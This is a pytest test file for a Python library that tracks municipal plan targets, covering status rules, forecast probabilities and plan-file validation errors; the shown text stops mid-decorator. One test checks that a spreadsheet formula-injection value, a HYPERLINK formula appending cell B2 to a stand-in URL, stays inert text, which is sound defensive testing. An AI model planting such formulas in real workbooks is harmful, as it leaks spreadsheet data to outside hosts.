"""Plan monitoring: hand-worked statuses for every status and direction, the straight path, the
trend and probability formulas, every validation error of a plan file, and the check on the demo
data."""

from __future__ import annotations

import math
import textwrap
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import cityindicators as ci
from cityindicators.plans import (PlanError, criterion_status, linear_trend, load_plan, planned_path,
                                  probability_from_quantiles, progress_share)

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "examples" / "plans"


def status(actual, year, b=100.0, t=200.0, direction="at_least", y0=2020, y1=2030, tol=None) -> str:
    return str(criterion_status([actual], [year], y0, b, y1, t, direction, tol)[0])


# -- the status rule, by hand ----------------------------------------------------------------------


def test_path_gap_and_progress_by_hand():
    # base 100 in 2020, target 200 in 2030: 10 a year; NaN before the base, the target after it
    p = planned_path([2019, 2020, 2025, 2030, 2031], 2020, 100.0, 2030, 200.0)
    assert np.isnan(p[0])
    assert list(p[1:]) == [100.0, 150.0, 200.0, 200.0]
    assert progress_share([160.0], 100.0, 200.0)[0] == pytest.approx(0.6)
    assert np.isnan(progress_share([160.0], 100.0, 100.0)[0])  # no planned change


def test_status_at_least():
    # in 2025 half the time has elapsed (tau = 0.5)
    assert status(200, 2025) == "reached"
    assert status(160, 2025) == "on_track"      # s = 0.6 >= 0.5
    assert status(150, 2025) == "on_track"      # s = 0.5 = tau: on the path
    assert status(120, 2025) == "behind"        # s = 0.2: towards the target, too slowly
    assert status(90, 2025) == "off_track"      # s = -0.1: moving away
    assert status(190, 2030) == "off_track"     # target year, not reached
    assert status(99, 2020) == "on_track"       # base year: nothing was due yet
    assert status(math.nan, 2025) == "no_data"
    assert status(150, 2019) == "no_data"       # before the base year


def test_status_at_most():
    # base 10, target 6 (a fall), 2024: tau = 0.4
    kw = dict(b=10.0, t=6.0, direction="at_most")
    assert status(5.5, 2024, **kw) == "reached"
    assert status(8.0, 2024, **kw) == "on_track"  # s = 0.5
    assert status(9.0, 2024, **kw) == "behind"    # s = 0.25
    assert status(11.0, 2024, **kw) == "off_track"  # s = -0.25
    # an "at most" target above the base (a rise allowed up to 35) that the value has passed
    assert status(38.45, 2025, b=30.68, t=35.0, direction="at_most") == "off_track"


def test_status_reach():
    # base 50, target 60; default tolerance 1 % of 60 = 0.6
    kw = dict(b=50.0, t=60.0, direction="reach")
    assert status(59.5, 2025, **kw) == "reached"
    assert status(56.0, 2025, **kw) == "on_track"   # s = 0.6
    assert status(52.0, 2025, **kw) == "behind"     # s = 0.2
    assert status(61.0, 2025, **kw) == "off_track"  # overshot by more than the tolerance
    assert status(61.0, 2025, tol=2.0, **kw) == "reached"


def test_status_target_below_base_and_constant_target():
    # "at least 20,000" from a base of 22,788: reached while above, off track once under it
    kw = dict(b=22788.0, t=20000.0)
    assert status(20983, 2025, **kw) == "reached"
    assert status(19000, 2025, **kw) == "off_track"
    # hold a level: reached while held, off track when not
    assert status(101, 2025, t=100.0) == "reached"
    assert status(99, 2025, t=100.0) == "off_track"


# -- trend and probability formulas ------------------------------------------------------------------


def test_linear_trend_by_hand():
    # y = 0, 1, 1, 2 at x = 0..3: slope 3/5, line 1 + 0.6 (x - 1.5); at x = 5: 3.1
    # residuals -0.1, 0.3, -0.3, 0.1 -> s^2 = 0.2 / 2; half-width t(0.9, 2) s sqrt(1 + 1/4 + 3.5^2/5)
    v, lo, hi = linear_trend([0, 1, 2, 3], [0, 1, 1, 2], 5)
    half = 1.885618083 * math.sqrt(0.1) * math.sqrt(1 + 0.25 + 12.25 / 5)
    assert v == pytest.approx(3.1)
    assert (lo, hi) == (pytest.approx(3.1 - half, abs=1e-6), pytest.approx(3.1 + half, abs=1e-6))
    v, lo, hi = linear_trend([2000, 2001, 2002], [1, 3, 5], 2004)  # an exact line: no spread
    assert (v, lo, hi) == (pytest.approx(9.0), pytest.approx(9.0), pytest.approx(9.0))


def test_probability_from_quantiles_by_hand():
    q, v = [0.1, 0.5, 0.9], [90.0, 100.0, 110.0]
    assert probability_from_quantiles(q, v, 100, "at_least") == pytest.approx(0.5)
    assert probability_from_quantiles(q, v, 105, "at_least") == pytest.approx(0.3)  # F(105) = 0.7
    assert probability_from_quantiles(q, v, 95, "at_most") == pytest.approx(0.3)
    assert probability_from_quantiles(q, v, 100, "reach", tolerance=5) == pytest.approx(0.4)
    assert probability_from_quantiles(q, v, 500, "at_least") == pytest.approx(0.1)  # clipped at the last quantile


def test_probability_words():
    from cityindicators.plans.texts import probability_text

    assert probability_text(0.35, "lt") == "35 %"
    assert probability_text(1 - 0.99, "en") == "less than 1%"  # English closes a percentage up
    assert probability_text(0.99, "lt") == "daugiau nei 99 %"
    assert probability_text(0.995, "en", short=True) == ">99%" and probability_text(0.35, "en") == "35%"
    assert probability_text(float("nan")) == "\u2013"  # the no-data mark of the reports and the tables


def test_sentence_ending_in_an_abbreviation_has_one_full_stop():
    from cityindicators.plans.texts import text

    s = text("s_projection", "lt", scenario="Bazinis", target_year=2030, value="12 841", unit="asm.")
    assert s.endswith("12 841 asm.") and ".." not in s


# -- plan files and their errors ---------------------------------------------------------------------


GOOD = """\
name_lt: Bandomasis planas
territory: Eglyno sav.
period: 2021-2030
criteria:
  - id: A1
    name_lt: Gyventojai
    indicator: population
    unit: asm.
    base_year: 2020
    target_year: 2030
    target_value: 20000
    direction: at_least
"""


#: The plan with an own indicator whose values are typed in the plan.
OWN = GOOD.replace("indicator: population", "indicator: satisfied_residents").replace(
    "    unit: asm.\n", "    unit: \"%\"\n    values: {2020: 50, 2022: 54, 2024: 58}\n").replace(
    "target_value: 20000", "target_value: 70")


def write(tmp_path: Path, text: str, name: str = "plan.yaml") -> Path:
    p = tmp_path / name
    p.write_text(textwrap.dedent(text), encoding="utf-8")
    return p


def test_good_plan_reads_base_value_from_data(tmp_path, demo_dir):
    plan = ci.load_plan(write(tmp_path, GOOD), data_dir=demo_dir)
    c = plan.criteria[0]
    assert c.base_from_data and c.unit == "persons" and plan.territory.code == "X13"
    from cityindicators.indicators import compute_indicators

    ref = compute_indicators("population", territories="X13", years=2020, data_dir=demo_dir)["value"].iloc[0]
    assert c.base_value == ref
    assert plan.warnings == []


def errors_of(tmp_path, demo_dir, text: str) -> str:
    return errors_of_path(write(tmp_path, text), demo_dir)


@pytest.mark.parametrize("old, new, expected", [
    ("indicator: population", "indicator: populaton",
     ("plan.yaml: line 7, key 'criteria[1].indicator'", "unknown indicator 'populaton'", "closest ids: population")),
    ("target_year: 2030", "target_year: 2019",
     ("line 10, key 'criteria[1].target_year'", "not after the base year 2020")),
    ("unit: asm.", "unit: EUR", ("line 8, key 'criteria[1].unit'", "'persons'")),
    ("Eglyno sav.", "Atlantida", ("line 2, key 'territory'", "register does not know")),
    ("period: 2021-2030", "period: 2030-2021", ("line 3, key 'period'",)),
    ("base_year: 2020", "base_year: 1990", ("criteria[1].base_value", "no value of 'population'")),
    ("    unit: asm.", "    unit: [asm.", ("plan.yaml: line", "not valid YAML")),
    ("    target_year: 2030", "    target_year: 2030\n    target_year: 2035",
     ("plan.yaml: line 11", "key 'target_year' appears twice (first on line 10)")),
    ("    direction: at_least", "    direction: reach\n    tolerance: -1",
     ("line 13, key 'criteria[1].tolerance'", "expected a tolerance of zero or more, got -1")),
    ("    direction: at_least", "    direction: at_least\n    base_value_tolerance: -2",
     ("key 'criteria[1].base_value_tolerance'", "expected a tolerance of zero or more, got -2")),
    ("period: 2021-2030", "period: 2021-2030\nscenarios: ' , '",
     ("line 4, key 'scenarios'", "expected scenario names separated by commas, got ' , '")),
    # "20,000" read as twenty (the Lithuanian decimal comma) set a target of 20 residents: reached, inflow 0
    ("target_value: 20000", "target_value: '20,000'",
     ("line 11, key 'criteria[1].target_value'", "'20,000' is ambiguous (a thousands separator or a decimal mark?): "
                                                  "write 20000 or 20")),
    ("target_value: 20000", "target_value: '20.000'", ("'20.000' is ambiguous", "write 20000 or 20")),
    # YAML reads 1e400 as text, float() as infinity: a target of inf was "off track" with an infinite gap
    ("target_value: 20000", "target_value: 1e400", ("key 'criteria[1].target_value': expected a finite number, "
                                                    "got '1e400'",)),
    # values an indicator cannot take (the catalogue's bounds): a negative population, a share above 100 %
    ("target_value: 20000", "target_value: -20000",
     ("line 11, key 'criteria[1].target_value': indicator 'population' (persons) cannot be negative, got -20000",)),
    ("    target_year: 2030", "    base_value: -5\n    target_year: 2030",
     ("line 10, key 'criteria[1].base_value': indicator 'population' (persons) cannot be negative, got -5",)),
    ("indicator: population\n    unit: asm.\n    base_year: 2020\n    target_year: 2030\n    target_value: 20000",
     "indicator: share_65_plus\n    unit: '%'\n    base_year: 2020\n    target_year: 2030\n    target_value: 120",
     ("line 11, key 'criteria[1].target_value': indicator 'share_65_plus' is a share in percent and cannot be "
      "above 100, got 120",)),
    # a growth rate may be negative, but a population cannot lose more than all of itself
    ("indicator: population\n    unit: asm.\n    base_year: 2020\n    target_year: 2030\n    target_value: 20000",
     "indicator: population_growth_rate\n    unit: '%'\n    base_year: 2020\n    target_year: 2030\n"
     "    target_value: -120",
     ("line 11, key 'criteria[1].target_value': indicator 'population_growth_rate' (%) cannot be below -100, "
      "got -120",)),
    # a target year after the plan's period (2021-2030), which the plan does not monitor
    ("target_year: 2030", "target_year: 2031",
     ("line 10, key 'criteria[1].target_year': target year 2031 is after the plan's period 2021-2030",)),
], ids=["unknown-indicator", "target-before-base", "unit-mismatch", "unknown-territory", "period-reversed",
        "no-base-data", "invalid-yaml", "key-written-twice", "negative-tolerance", "negative-base-tolerance",
        "scenarios-of-commas", "thousands-comma", "thousands-point", "infinite", "negative-population-target",
        "negative-population-base", "share-above-100", "growth-rate-below-minus-100", "target-after-period"])
def test_a_bad_plan_value_names_its_line_and_key(tmp_path, demo_dir, old, new, expected):
    msg = errors_of(tmp_path, demo_dir, GOOD.replace(old, new))
    missing = [e for e in expected if e not in msg]
    assert not missing, f"{missing} not in: {msg}"


def test_base_value_far_from_data_is_a_warning_quoting_both(tmp_path, demo_dir):
    text = GOOD.replace("    target_year: 2030", "    base_value: 30000\n    target_year: 2030")
    plan = load_plan(write(tmp_path, text), data_dir=demo_dir)
    data_value = plan.series("A1")[2020]
    assert len(plan.warnings) == 1
    w = plan.warnings[0]
    assert "line 10, key 'criteria[1].base_value'" in w and "30000" in w and f"{data_value:g}" in w
    assert plan.criteria[0].base_value == 30000  # the plan's own value is kept
    # within the stated tolerance: no warning
    text = text.replace("base_value: 30000", f"base_value: {data_value * 1.01:.0f}")
    assert load_plan(write(tmp_path, text), data_dir=demo_dir).warnings == []


def test_missing_keys_typos_directions_and_all_errors_at_once(tmp_path, demo_dir):
    text = GOOD.replace("    direction: at_least\n", "    direction: upwards\n    targt: 3\n").replace(
        "    name_lt: Gyventojai\n", "")
    msg = errors_of(tmp_path, demo_dir, text)
    lines = msg.splitlines()
    assert len(lines) == 3
    assert any("criteria[1].direction" in ln and "at_least, at_most, reach" in ln for ln in lines)
    assert any("criteria[1].targt" in ln and "did you mean 'target_year'" in ln for ln in lines)
    assert any("criteria[1].name_lt" in ln and "required key is missing" in ln for ln in lines)


def test_duplicate_criterion_ids(tmp_path, demo_dir):
    dup = GOOD + GOOD.split("criteria:\n")[1]
    assert "duplicate criterion id 'A1'" in errors_of(tmp_path, demo_dir, dup)


def test_own_indicator_values_and_unit(tmp_path, demo_dir):
    own = OWN
    plan = load_plan(write(tmp_path, own), data_dir=demo_dir)
    assert plan.criteria[0].base_value == 50
    latest = plan.latest().iloc[0]
    assert latest["year"] == 2024 and latest["status"] == "on_track"  # s = 8/20 = 0.4 = tau
    o = plan.outlook(trajectories=0)
    assert o["method"].tolist() == ["trend"] and o["value"].iloc[0] == pytest.approx(70.0)  # 2 a year
    msg = errors_of(tmp_path, demo_dir, own.replace("    unit: \"%\"\n", ""))
    assert "criteria[1].unit" in msg and "own indicator needs its unit" in msg


def _plan_workbook(path, header, *criteria):
    """A plan workbook at ``path``: the plan sheet of X13 for 2021-2030 and the ``criteria`` rows under
    ``header``; returns the workbook and its criteria sheet (saved; save again after a change)."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "plan"
    for row in (("name_lt", "Planas"), ("territory", "X13"), ("period", "2021-2030")):
        ws.append(row)
    cr = wb.create_sheet("criteria")
    for row in (header, *criteria):
        cr.append(list(row))
    wb.save(path)
    return wb, cr


def test_xlsx_plan_names_cells(tmp_path, demo_dir):
    path = tmp_path / "plan.xlsx"
    wb, cr = _plan_workbook(
        path, ["id", "name_lt", "indicator", "unit", "base_year", "target_year", "target_value", "direction"],
        ["A1", "Gyventojai", "population", "persons", 2020, 2030, 20000, "≥"],
        ["A2", "Dalis", "share_65_plus", "EUR", 2020, 2030, 20, "at_most"])
    msg = errors_of_path(path, demo_dir)
    assert "plan.xlsx: cell criteria!D3, key 'criteria[2].unit'" in msg
    cr["D3"] = "%"
    wb.save(path)
    plan = load_plan(path, data_dir=demo_dir)
    assert [c.direction for c in plan.criteria] == ["at_least", "at_most"]
    wb.remove(wb["criteria"])
    wb.save(path)
    assert "missing criteria" in errors_of_path(path, demo_dir)


def test_a_plan_workbook_value_out_of_its_indicators_bounds_names_its_cell(tmp_path, demo_dir):
    path = tmp_path / "plan.xlsx"
    wb, cr = _plan_workbook(
        path, ["id", "name_lt", "indicator", "unit", "base_year", "base_value", "target_year", "target_value",
               "direction"],
        ["A1", "Gyventojai", "population", "persons", 2020, -1, 2030, 20000, "at_least"],
        ["A2", "Dalis", "share_65_plus", "%", 2020, None, 2030, 100.5, "at_most"],
        ["A3", "Dalis", "working_age_share", "%", 2020, None, 2035, 60, "at_least"])
    lines = errors_of_path(path, demo_dir).splitlines()
    assert lines == [
        f"{path}: cell criteria!F2, key 'criteria[1].base_value': indicator 'population' (persons) cannot be "
        "negative, got -1",
        f"{path}: cell criteria!H3, key 'criteria[2].target_value': indicator 'share_65_plus' is a share in percent "
        "and cannot be above 100, got 100.5",
        f"{path}: cell criteria!G4, key 'criteria[3].target_year': target year 2035 is after the plan's period "
        "2021-2030"], lines
    # the bounds themselves are values the indicators can take
    cr["F2"], cr["H3"], cr["G4"] = 0, 100, 2030
    wb.save(path)
    assert [c.target_value for c in load_plan(path, data_dir=demo_dir).criteria] == [20000, 100, 60]


def test_balances_and_changes_may_be_negative(tmp_path, demo_dir):
    # net migration, natural change and their rates are balances: a plan may aim at a smaller outflow
    crit = GOOD.split("criteria:\n")[1]
    text = GOOD.split("criteria:\n")[0] + "criteria:\n" + "".join(
        crit.replace("id: A1", f"id: A{k}").replace("indicator: population\n    unit: asm.",
                                                     f"indicator: {ind}\n    unit: {unit!r}")
        .replace("target_value: 20000", f"target_value: {target}")
        for k, (ind, unit, target) in enumerate((("net_migration", "persons", -60),
                                                 ("natural_change", "persons", -150),
                                                 ("crude_net_migration_rate", "per 1000", -3.5),
                                                 ("population_growth_rate", "%", -0.8)), start=1))
    plan = load_plan(write(tmp_path, text), data_dir=demo_dir)
    assert [c.target_value for c in plan.criteria] == [-60, -150, -3.5, -0.8]


def errors_of_path(path, demo_dir) -> str:
    with pytest.raises(PlanError) as exc:
        load_plan(path, data_dir=demo_dir)
    return str(exc.value)


# -- the demo plan ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_plan(demo_dir_backtested):
    return load_plan(EXAMPLES / "eglynas.yaml", data_dir=demo_dir_backtested)


def test_demo_plan_check_is_tidy_and_follows_the_rule(demo_plan):
    chk = demo_plan.check()
    assert list(chk.columns) == ["criterion", "indicator", "unit", "direction", "year", "actual", "planned", "gap",
                                 "progress", "elapsed", "status"]
    assert not chk.duplicated(["criterion", "year"]).any()
    for c in demo_plan.criteria:
        sub = chk[chk["criterion"] == c.id].set_index("year")
        assert sub.index.min() == c.base_year and sub.loc[c.target_year, "planned"] == c.target_value
        expect = criterion_status(sub["actual"], sub.index, c.base_year, c.base_value, c.target_year,
                                  c.target_value, c.direction)
        assert list(sub["status"]) == list(expect)
        np.testing.assert_allclose(sub["gap"], sub["actual"] - sub["planned"])
    # the demo plan shows every status but "no data" in its latest year
    assert set(demo_plan.latest()["status"]) == {"reached", "on_track", "behind", "off_track"}
    assert (chk[chk["year"] > demo_plan.last_data_year]["status"] == "no_data").all()


def test_demo_outlook_projection_probability_inflow(demo_plan, demo_dir):
    from cityindicators.projection import find_inflow, project

    o = demo_plan.outlook(trajectories=300, seed=7)
    e1 = o[o["criterion"] == "E1"].set_index("scenario")
    assert list(e1.index) == ["baseline", "zero-migration", "attraction"]
    res = project("X13", to_year=2031, scenario=["baseline", "zero-migration", "attraction"], data_dir=demo_dir)
    tot = res.totals()
    tot = tot[(tot["sex"] == "total") & (tot["year"] == 2030)].set_index("scenario")["value"]
    for sc in e1.index:
        assert e1.loc[sc, "value"] == pytest.approx(tot[sc])
    # the probability: share of the trajectories at or above 20,000, read off the percentiles of the
    # stochastic band calibrated to the back-test errors of the data (the library's calibration)
    from cityindicators.projection import ProjectionData
    from cityindicators.projection.build_intervals import backtest_errors_of_build

    data = ProjectionData.from_store(data_dir=demo_dir)
    st = project("X13", to_year=2031, scenario="baseline", reference=res.reference, stochastic=300, seed=7, data=data,
                 quantiles=[i / 100 for i in range(1, 100)], data_dir=demo_dir,
                 interval_errors=backtest_errors_of_build(data, demo_dir), calibrate_stochastic=True)
    assert st.stochastic_band.startswith("calibrated to the empirical 80 % interval")
    q = st.quantiles
    q = q[(q["sex"] == "total") & (q["age_group"] == "total") & (q["year"] == 2030)].sort_values("quantile")
    expected = float((q["value"] >= 20000).mean())  # percentiles above the target ~ probability
    assert abs(e1.loc["baseline", "probability"] - expected) <= 0.02
    qd = q.set_index(q["quantile"].round(2))["value"]
    assert (e1.loc["baseline", "low"], e1.loc["baseline", "high"]) == (qd[0.1], qd[0.9])
    assert e1.loc["baseline", "band"] == "calibrated" and demo_plan.cache["band"] == "calibrated"
    assert (e1.loc["baseline", "low"], e1.loc["baseline", "high"]) != tuple(
        project("X13", to_year=2031, scenario="baseline", reference=res.reference, stochastic=300, seed=7,
                data_dir=demo_dir)
        .quantiles.query("year == 2030").set_index("quantile")["value"][[0.1, 0.9]])  # not the model's own band
    # the inflow is find_inflow's, with the profile named
    tr = find_inflow("X13", year=2030, population=20000, scenario="baseline", profile="young_families",
                     data_dir=demo_dir)
    assert e1.loc["baseline", "inflow"] == pytest.approx(tr.inflow, abs=1.0)
    assert e1.loc["baseline", "inflow_profile"] == "young_families"
    # a projected ratio: no probability (not in the stochastic output), the inflow of at most R
    e3 = o[(o["criterion"] == "E3") & (o["scenario"] == "baseline")].iloc[0]
    assert np.isnan(e3["probability"]) and e3["inflow_status"] in ("met", "met_at_lower_bound", "unreachable")
    # non-demographic criteria get a labelled trend over the last ten years
    e6 = o[o["criterion"] == "E6"].iloc[0]
    assert e6["method"] == "trend" and e6["trend_from"] == demo_plan.last_data_year - 9
    assert e6["low"] < e6["value"] < e6["high"]


def test_outlook_reads_the_data_once_and_takes_the_builds_errors_and_interval_model(demo_dir_backtested,
                                                                                   monkeypatch):
    """A plan's outlook reads the projection data once (both projections take it) and takes the
    back-test errors and the interval model of its build where the scenario report takes them
    (projection/build_intervals.py, once per build for every report and plan): kept there, they
    are neither computed nor fitted again, and the band and probability are those of the errors
    and model given to project()."""
    from cityindicators import build_cache
    import importlib

    from cityindicators.projection import ProjectionData, api, project
    from cityindicators.projection.build_intervals import backtest_errors_of_build, interval_model_of_build

    d = demo_dir_backtested
    build_cache.clear()
    data = ProjectionData.from_store(data_dir=d)
    base = int(data.population.query("territory_code == 'X13'")["year"].max())
    errors = backtest_errors_of_build(data, d)
    model = interval_model_of_build(errors, data, d, base)  # as a report of the build kept them
    reads, fits = [], []
    real_read, real_fit = ProjectionData.from_store, api.shipped_model_at
    monkeypatch.setattr(ProjectionData, "from_store", lambda *a, **k: reads.append(1) or real_read(*a, **k))
    monkeypatch.setattr(api, "shipped_model_at", lambda *a, **k: fits.append(1) or real_fit(*a, **k))
    monkeypatch.setattr(importlib.import_module("cityindicators.projection.backtest"), "out_of_sample_errors",
                        lambda *a, **k: pytest.fail("the back-test errors were computed again"))
    plan = load_plan(EXAMPLES / "eglynas.yaml", data_dir=d)
    o = plan.outlook(trajectories=200, seed=11)
    assert (len(reads), len(fits)) == (1, 0)
    e1 = o[(o["criterion"] == "E1") & (o["scenario"] == "baseline")].iloc[0]
    assert e1["band"] == "calibrated"
    res = plan.cache["projection"]
    st = project("X13", to_year=2031, scenario="baseline", reference=res.reference, data=data, data_dir=d, stochastic=200,
                 seed=11, quantiles=[i / 100 for i in range(1, 100)], interval_model=model, calibrate_stochastic=True)
    q = st.quantiles.query("year == 2030").sort_values("quantile")
    qd = q.set_index(q["quantile"].round(2))["value"]
    assert (e1["low"], e1["high"]) == (qd[0.1], qd[0.9])
    from cityindicators.plans.status import default_tolerance

    c = next(c for c in plan.criteria if c.id == "E1")
    assert e1["probability"] == probability_from_quantiles(q["quantile"], q["value"], c.target_value, c.direction,
                                                           default_tolerance(c.direction, c.target_value, c.tolerance))
    build_cache.clear()


def test_plans_band_and_probability_are_the_scenario_reports(demo_dir_backtested):
    """A plan's stochastic model is the scenario report's (fitted on every municipality of the data,
    calibrated by the build's interval model): for the same territory, scenario, horizon, trajectories
    and seed, the plan's 10-90 % band in the target year is the report's fan chart there, and its
    probability is read off the report's trajectories."""
    from cityindicators.plans.outlook import PROBABILITY_QUANTILES
    from cityindicators.plans.status import default_tolerance
    from cityindicators.projection import project
    from cityindicators.projection.build_intervals import backtest_errors_of_build, interval_model_of_build
    from cityindicators.reports import sections

    d = demo_dir_backtested
    plan = load_plan(EXAMPLES / "eglynas.yaml", data_dir=d)
    c = next(c for c in plan.criteria if c.id == "E1")
    e1 = plan.outlook(trajectories=120, seed=9).query("criterion == 'E1'").iloc[0]
    code, year = plan.territory.code, c.target_year
    report = sections.setup_scenarios(code, scenarios=[e1["scenario"]], horizon=year + 1, language="en", data_dir=d,
                                      trajectories=120, seed=9, show=False)
    assert report.stochastic_calibrated and e1["band"] == "calibrated"
    q = report.quantiles.query("territory_code == @code and sex == 'total' and age_group == 'total' and year == @year")
    fan = q.set_index(q["quantile"].round(2))["value"]
    assert (e1["low"], e1["high"]) == (pytest.approx(fan[0.1], rel=1e-9), pytest.approx(fan[0.9], rel=1e-9))
    # the report's projection read at the plan's percentiles
    res = report.projection
    data = report.workspace.projection_data()
    model = interval_model_of_build(backtest_errors_of_build(data, d), data, d, res.base_year)
    st = project(code, base_year=res.base_year, to_year=year + 1, scenario=res.scenarios[e1["scenario"]], data=data,
                 data_dir=d, stochastic=120, seed=9, quantiles=PROBABILITY_QUANTILES, interval_model=model,
                 calibrate_stochastic=True, reference=res.reference)
    q = st.quantiles.query("territory_code == @code and year == @year").sort_values("quantile")
    tolerance = default_tolerance(c.direction, c.target_value, c.tolerance)
    assert e1["probability"] == pytest.approx(
        probability_from_quantiles(q["quantile"], q["value"], c.target_value, c.direction, tolerance), abs=1e-9)


def test_summary_has_words_in_both_languages(demo_plan):
    lt = demo_plan.summary("lt", trajectories=0)
    en = demo_plan.summary("en", trajectories=0)
    assert len(lt) == len(demo_plan.criteria)
    assert set(en["status_label"]) <= {"Reached", "On track", "Behind", "Off track", "No data"}
    assert "Pagal planą" in set(lt["status_label"]) and lt["name"].iloc[0] == "Gyventojų skaičius"


def test_visaginas_example_is_valid(tmp_path):
    """The Visaginas example validates against the register and the catalogue (no data needed
    for the structure; base values come from the data when it is there)."""
    from cityindicators.plans.files import read_plan_file

    raw = read_plan_file(EXAMPLES / "visaginas.yaml")
    assert raw.values["territory"] == "Visagino sav."
    c = {r["id"]: r for r in raw.criteria}
    assert c["V1"]["target_value"] == 20000 and c["V1"]["target_year"] == 2030
    assert all("base_value" not in r for r in raw.criteria)  # no figure typed: read from the data
    assert all("illustration" in r["source"] for k, r in c.items() if k != "V1")


@pytest.mark.slow
@pytest.mark.realdata
def test_visaginas_on_real_data(real_data_dir_backtested):
    d = real_data_dir_backtested
    plan = load_plan(EXAMPLES / "visaginas.yaml", data_dir=d)
    assert plan.territory.code == "30"
    latest = plan.latest()
    assert set(latest["status"]) <= {"reached", "on_track", "behind", "off_track", "no_data"}
    o = plan.outlook(trajectories=200, seed=1)
    v1 = o[(o["criterion"] == "V1") & (o["method"] == "projection")]
    assert len(v1) == 3 and 0 <= v1["probability"].iloc[0] <= 1


def test_own_indicator_values_round_trip_through_a_workbook(tmp_path, demo_dir):
    from cityindicators.plans.files import plan_workbook_bytes, read_plan_file
    from cityindicators.plans.plan import CRITERION_KEYS, PLAN_KEYS

    own = OWN
    raw = read_plan_file(write(tmp_path, own))
    xlsx = tmp_path / "own.xlsx"
    xlsx.write_bytes(plan_workbook_bytes(PLAN_KEYS, CRITERION_KEYS, raw))
    plan = load_plan(xlsx, data_dir=demo_dir)
    assert dict(plan.criteria[0].values) == {2020: 50.0, 2022: 54.0, 2024: 58.0}


@pytest.mark.parametrize("unit", ["\"%\"", "per 100 aged 15-64", "asm. šimtui 15–64 m. gyv.", "per 100",
                                  "persons per 100 aged 15–64"])
def test_a_dependency_ratio_target_per_100_or_in_percent_is_the_same_number(tmp_path, demo_dir, unit):
    # the catalogue gives the dependency ratios per 100 aged 15-64; "%" (the same numbers, as plans
    # written before said) is accepted and read in the catalogue's unit; another unit is an error
    text = GOOD.replace("indicator: population", "indicator: old_age_dependency_ratio").replace(
        "unit: asm.", f"unit: {unit}").replace("target_value: 20000", "target_value: 35")
    plan = load_plan(write(tmp_path, text), data_dir=demo_dir)
    assert plan.criteria[0].unit == "per 100 aged 15-64"
    msg = errors_of(tmp_path, demo_dir, text.replace(f"unit: {unit}", "unit: ‰"))
    assert "criteria[1].unit" in msg and "'per 100 aged 15-64'" in msg


def test_a_formula_like_name_stays_text_in_a_plan_workbook(tmp_path):
    # "=HYPERLINK(...)" typed as a plan's name became a live formula in the converted workbook
    import openpyxl

    from cityindicators.plans.files import plan_workbook_bytes, read_plan_file
    from cityindicators.plans.plan import CRITERION_KEYS, PLAN_KEYS

    link = '=HYPERLINK("http://example.invalid/?"&B2,"open")'
    yaml_plan = tmp_path / "p.yaml"
    yaml_plan.write_text(f"name_lt: '{link}'\nterritory: Eglyno sav.\ncriteria:\n  - id: '+A1'\n    name_en: '@SUM(1)'\n",
                         encoding="utf-8")
    xlsx = tmp_path / "p.xlsx"
    xlsx.write_bytes(plan_workbook_bytes(PLAN_KEYS, CRITERION_KEYS, read_plan_file(yaml_plan)))
    wb = openpyxl.load_workbook(xlsx)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {c.value for c in cells if c.quotePrefix} == {link, "+A1", "@SUM(1)"}
    back = read_plan_file(xlsx)
    assert back.values["name_lt"] == link
    assert (back.criteria[0]["id"], back.criteria[0]["name_en"]) == ("+A1", "@SUM(1)")


def test_a_plan_workbook_formula_with_no_saved_value_is_named(tmp_path):
    # a workbook written by a program keeps no value beside a formula: it read as a missing key
    import openpyxl

    from cityindicators.plans.files import PlanError, plan_workbook_bytes, read_plan_file
    from cityindicators.plans.plan import CRITERION_KEYS, PLAN_KEYS

    xlsx = tmp_path / "p.xlsx"
    xlsx.write_bytes(plan_workbook_bytes(PLAN_KEYS, CRITERION_KEYS))
    wb = openpyxl.load_workbook(xlsx)
    wb["criteria"].append(["A1", "Residents", None, "population"] + [None] * (len(CRITERION_KEYS) - 4))
    column = CRITERION_KEYS.index("target_value") + 1
    wb["criteria"].cell(2, column).value = "=20000*1.1"
    wb.save(xlsx)
    letter = openpyxl.utils.get_column_letter(column)
    with pytest.raises(PlanError, match=rf"p.xlsx: cell criteria!{letter}2, key 'target_value': a formula, =20000\*1.1, "
                                        r"with no saved value; type the value, or open and save the workbook"):
        read_plan_file(xlsx)


def test_plan_numbers_with_a_decimal_comma_or_grouped_thousands_are_read(tmp_path, demo_dir):
    """What stays a number: a decimal comma ("25,5"), a decimal with three digits after a zero ("0,500"),
    thousands grouped by spaces ("20 000", with the narrow no-break space too)."""
    from cityindicators.plans.plan import _number

    assert _number("25,5") == 25.5 and _number("0,500") == 0.5 and _number("-0.125") == -0.125
    assert _number("20 000") == _number("20\u202f000") == 20000.0 and _number(20000) == 20000.0
    assert _number("20,000") is None and _number("1.234") is None and _number("1e400") is None
    assert _number(float("inf")) is None and _number("abc") is None
    p = tmp_path / "plan.yaml"
    p.write_text(GOOD.replace("target_value: 20000", "target_value: '20 000'"), encoding="utf-8")
    assert load_plan(p, data_dir=demo_dir).criteria[0].target_value == 20000.0


def test_a_date_cell_of_a_plan_workbook_is_quoted_as_the_date_it_shows(tmp_path, demo_dir):
    """A spreadsheet turns 2020 typed as 1.1.2020 into a date: the error quoted datetime.datetime(2020, 1, 1, 0, 0)."""
    import datetime as dt

    import openpyxl

    from cityindicators.plans.plan import _as_written

    assert _as_written(dt.datetime(2020, 1, 1)) == "the date 2020-01-01"
    assert _as_written(dt.datetime(2020, 1, 1, 9, 30)) == "the date and time 2020-01-01 09:30"
    assert _as_written(dt.date(2020, 1, 1)) == "the date 2020-01-01" and _as_written("x") == "'x'"
    p = tmp_path / "plan.yaml"
    p.write_text(GOOD, encoding="utf-8")
    xlsx = tmp_path / "plan.xlsx"
    from cityindicators.cli import main

    assert main(["--data-dir", str(demo_dir), "plan", "workbook", str(xlsx), "--from", str(p)]) == 0
    wb = openpyxl.load_workbook(xlsx)
    sheet = wb["criteria"]
    column = [c.value for c in sheet[1]].index("base_year") + 1
    sheet.cell(row=2, column=column).value = dt.datetime(2020, 1, 1)
    wb.save(xlsx)
    with pytest.raises(PlanError, match=r"key 'criteria\[1\].base_year': expected a year \(1900-2100\), got the date 2020-01-01"):
        load_plan(xlsx, data_dir=demo_dir)


@pytest.mark.parametrize("indicator, unit, canon", [
